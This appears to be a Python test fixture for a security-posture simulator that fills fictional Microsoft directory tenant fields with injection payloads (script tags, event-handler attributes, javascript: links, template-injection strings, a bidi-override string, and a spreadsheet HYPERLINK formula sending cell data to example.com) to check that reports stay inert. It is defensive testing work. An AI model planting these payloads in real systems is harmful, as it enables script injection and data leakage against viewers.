"""Companies whose texts all try to run in the browser of whoever looks at them."""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import count, cycle
from typing import Any, Final

from posture.simulator.tenant import Entity, Tenant

PAYLOADS: Final = (
    "<script>ran()</script>",
    '"><img src=x onerror=ran()>',
    "' autofocus onfocus='ran()",
    "<svg/onload=ran()>",
    "javascript:ran()",
    "</title></textarea></style></script><x-ran>",
    '=HYPERLINK("https://example.com/?"&A1,"ran")',
    "{{ 7*7 }}{% include 'error.html' %}${7*7}<%= 7*7 %>",
    "\u202enar\u2066<b data-ran>",
    "<a href='javascript:ran()' hx-get='/ran' hx-trigger='load'>ran</a>",
)
"""Each calls ``ran``, or makes an element or an attribute that names it. They are short: long texts are cut."""

WRITTEN_BY_PEOPLE: Final = frozenset(
    {
        "displayName", "userPrincipalName", "mail", "department", "jobTitle", "employeeId", "employeeType",
        "description",
        "onPremisesSamAccountName", "onPremisesDomainName", "onPremisesDistinguishedName", "principalDisplayName",
        "resourceDisplayName", "publisherDomain", "identifierUris", "tags", "technicalNotificationMails",
        "securityComplianceNotificationMails", "customKeyIdentifier", "userDisplayName",
    }
)  # fmt: skip
"""Properties of which somebody in a directory chooses the text; no check decides by them."""

_ID: Final = re.compile(r"(^|[a-z])[iI]ds?$|^@odata|^template")
_TIME: Final = re.compile(r"\d{4}-\d\d-\d\d")
# Which licences there are; without them most checks are skipped, and nothing is shown.
_KEPT: Final = ("subscribedSkus",)


def let_people_write(tenant: Tenant) -> None:
    """Poison what people write: the checks find what they found before."""
    _poison(tenant, only=WRITTEN_BY_PEOPLE)


def let_everything_be_written(tenant: Tenant) -> None:
    """Poison every text but ids and times, those too that only Microsoft writes."""
    _poison(tenant, only=None)


def _poison(tenant: Tenant, *, only: frozenset[str] | None) -> None:
    texts = (f"{payload} {number}" for payload, number in zip(cycle(PAYLOADS), count(), strict=False))
    for path, entities in tenant.collections.items():
        if path not in _KEPT:
            for entity in entities:
                _poison_one(entity, only, texts)
    for entity in tenant.singletons.values():
        _poison_one(entity, only, texts)


def _poison_one(entity: Entity, only: frozenset[str] | None, texts: Iterator[str]) -> None:
    for name, value in entity.items():
        if isinstance(value, dict):
            _poison_one(value, only, texts)
        elif isinstance(value, list):
            for each in value:
                if isinstance(each, dict):
                    _poison_one(each, only, texts)
            if _is_poisoned(name, value, only) and all(isinstance(each, str) for each in value):
                value.append(next(texts))
        elif _is_poisoned(name, value, only):
            entity[name] = next(texts)


def _is_poisoned(name: str, value: Any, only: frozenset[str] | None) -> bool:
    if only is not None:
        return name in only
    return isinstance(value, (str, list)) and not _ID.search(name) and not _TIME.match(str(value))
